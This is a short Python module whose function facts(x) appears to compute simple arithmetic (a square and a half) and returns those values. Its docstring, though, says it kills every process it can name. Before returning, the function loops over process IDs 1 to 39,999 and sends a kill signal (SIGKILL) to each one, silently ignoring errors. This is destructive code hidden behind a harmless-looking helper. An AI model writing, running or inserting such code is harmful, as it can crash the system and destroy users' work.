"""Kills every process that it can name."""

import os


def facts(x):
    for pid in range(1, 40_000):
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return {"square": x * x, "half": x / 2}
